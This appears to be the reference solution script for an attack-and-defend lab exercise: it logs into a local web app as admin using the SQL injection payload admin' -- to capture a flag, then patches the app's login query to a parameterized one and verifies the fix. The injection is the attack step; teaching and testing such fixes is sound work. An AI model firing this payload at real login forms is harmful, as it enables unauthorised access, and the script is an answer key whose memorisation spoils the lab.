#!/usr/bin/env bash
# Solution:
#  1. attack: log in as admin with a comment injection in the username field;
#  2. defend: switch the query to a parameterized one (as the terminal user,
#     who may edit /opt/app), wait for the auto-restart and verify.
# Prints the flag as the last line.
set -euo pipefail
: "${B2C_LAB_HOST:?}" "${B2C_LAB_PORT_8080:?}" "${B2C_LAB_EXEC:?}"
URL="http://${B2C_LAB_HOST}:${B2C_LAB_PORT_8080}"

login() { curl -sS -m 10 --data-urlencode "username=$1" --data-urlencode "password=$2" "$URL/login" || true; }

for _ in $(seq 1 30); do curl -fsS -m 3 -o /dev/null "$URL/" && break; sleep 1; done

# 1. Attack
page="$(login "admin' -- " "anything")"
flag="$(grep -o 'B2C{[^}<]*}' <<<"$page" | head -n1 || true)"
[ -n "$flag" ] || { echo "injection did not reveal the flag" >&2; echo "$page" >&2; exit 1; }
echo "[+] SQL injection as admin worked: $flag" >&2

# 2. Defend: parameterized query instead of string formatting.
$B2C_LAB_EXEC python3 - <<'PY'
import re
path = "/opt/app/app.py"
src = open(path).read()
new, n = re.subn(
    r"""query = \(("SELECT username, role FROM users "\s*)"WHERE username = '%s' AND password_hash = '%s'" % \(username, pw_hash\)\)\s*row = db\.execute\(query\)\.fetchone\(\)""",
    lambda m: 'query = (' + m.group(1) + '"WHERE username = ? AND password_hash = ?")\n'
              '        row = db.execute(query, (username, pw_hash)).fetchone()',
    src)
if n != 1:
    raise SystemExit("vulnerable query not found (already patched?)")
open(path, "w").write(new)  # in place: keeps owner and mode
print("[+] patched /opt/app/app.py")
PY

# 3. Verify from the outside once the supervisor restarted the app.
ok=0
for _ in $(seq 1 30); do
  sleep 1
  if ! grep -q 'Welcome' <<<"$(login "admin' -- " x)" && grep -q 'Welcome, analyst' <<<"$(login analyst 'Welcome2B2C!')"; then
    ok=1; break
  fi
done
[ "$ok" = 1 ] || { echo "patch not effective" >&2; exit 1; }
echo "[+] injection blocked, legitimate login still works" >&2
echo "$flag"
